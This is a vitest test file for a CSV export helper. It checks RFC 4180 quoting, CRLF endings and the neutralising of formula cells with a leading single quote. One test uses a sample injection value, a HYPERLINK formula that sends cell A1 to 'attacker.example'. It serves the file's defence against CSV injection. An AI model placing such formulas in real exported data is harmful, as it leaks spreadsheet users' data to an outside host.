import { describe, expect, it } from 'vitest';
import { toCsv } from './csv';

const line = (cells: Record<'title' | 'value', string | number | null>) =>
  toCsv(['title', 'value'], [cells]).split('\r\n')[1];

describe('toCsv', () => {
  it('leaves plain fields alone', () => {
    expect(line({ title: 'Indonesia', value: 34913340000 })).toBe('Indonesia,34913340000');
    expect(line({ title: null, value: 98.69 })).toBe(',98.69');
  });

  it('quotes fields with a comma, a quote or a line break, doubling the quotes (RFC 4180)', () => {
    expect(line({ title: 'Seoul, Korea', value: 1 })).toBe('"Seoul, Korea",1');
    expect(line({ title: 'the "EPS" scheme', value: 1 })).toBe('"the ""EPS"" scheme",1');
    expect(toCsv(['title'], [{ title: 'line one\nline two' }])).toBe('title\r\n"line one\nline two"\r\n');
    expect(toCsv(['title'], [{ title: 'carriage\rreturn' }])).toBe('title\r\n"carriage\rreturn"\r\n');
  });

  it('writes a cell a spreadsheet would evaluate as text, with a leading single quote', () => {
    expect(line({ title: '=HYPERLINK("http://attacker.example/?"&A1,"Click")', value: 1 })).toBe(
      `"'=HYPERLINK(""http://attacker.example/?""&A1,""Click"")",1`,
    );
    for (const formula of ['+1+1', '-2+3', '@SUM(A1:A2)', '\t=1+1', '＝1+1']) {
      expect(line({ title: formula, value: 1 }), formula).toBe(`"'${formula}",1`);
    }
    expect(toCsv(['title'], [{ title: '=1+1\n=2+2' }])).toBe(`title\r\n"'=1+1\n=2+2"\r\n`);
    expect(toCsv(['title'], [{ title: '\r=1+1' }])).toBe(`title\r\n"'\r=1+1"\r\n`);
  });

  it('ends every line with CRLF, with rows or without', () => {
    expect(toCsv(['a', 'b'], [])).toBe('a,b\r\n');
    expect(toCsv(['a', 'b'], [{ a: 1, b: 2 }])).toBe('a,b\r\n1,2\r\n');
  });

  it('leaves numbers alone, negative ones included', () => {
    expect(line({ title: 'Change', value: -12.5 })).toBe('Change,-12.5');
  });
});
